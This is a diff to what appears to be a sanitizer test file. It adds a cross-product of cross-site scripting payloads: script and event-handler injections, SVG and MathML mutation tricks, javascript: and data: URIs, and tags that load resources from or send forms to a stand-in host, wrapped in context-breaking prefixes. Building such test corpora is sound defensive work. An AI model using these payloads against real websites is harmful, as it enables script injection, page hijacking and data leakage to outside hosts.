@@ -22,3 +22,38 @@ PAYLOADS = {
     "template": "{{ 7*7 }} ${7*7} {% x %}",
     "spaces": "  two  spaces\ttab\nline",
 }
+
+_CARRIERS = (
+    *("{}", "x {} y", '"{}', "'{}", '">{}', "'>{}", "</p>{}", "</bdi></a>{}", "<!--{}", "-->{}"),
+    *("]]>{}", "`{}`", "[x]({})", "![x]({})", "\\{}", "&lt;{}", "\u202e{}", "\n\n{}\n\n"),
+    *("</script>{}", "</textarea></style>{}"),
+)
+_HARMS = (
+    "<script>window.harmed=1</script>",
+    "<script src=//outside.example/a.js></script>",
+    "<img src=//outside.example/i onerror=window.harmed=1>",
+    "<svg><script>window.harmed=1</script></svg>",
+    "<svg><a xlink:href=javascript:window.harmed=1><text>x</text></a></svg>",
+    "<svg><use href=//outside.example/u.svg#x></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.harmed=1>",
+    "<iframe srcdoc='<script>parent.harmed=1</script>'></iframe>",
+    "<object data=//outside.example/o></object>",
+    "<embed src=//outside.example/e>",
+    "<link rel=stylesheet href=//outside.example/l.css>",
+    "<style>@import '//outside.example/s.css';*{display:none}</style>",
+    "<div style='position:fixed;inset:0;background:url(//outside.example/b)'>x</div>",
+    "<meta http-equiv=refresh content='0;url=//outside.example/m'>",
+    "<base href=//outside.example/>",
+    "<form action=//outside.example/f><button name=copy>x</button></form>",
+    "<a href=javascript:window.harmed=1 id=source class=cite>x</a>",
+    "<input name=attributes autofocus onfocus=window.harmed=1>",
+    "<video src=//outside.example/v poster=//outside.example/p></video>",
+    "<audio src=//outside.example/a autoplay></audio>",
+    "<img srcset='//outside.example/1x 1x'>",
+    "<details open ontoggle=window.harmed=1>x</details>",
+    "javascript:window.harmed=1",
+    "data:text/html,<script>window.harmed=1</script>",
+    "https://outside.example/auto",
+)
+MANY = tuple(carrier.format(harm) for carrier in _CARRIERS for harm in _HARMS)
+"""Five hundred of them: each harm, each way that it may come."""
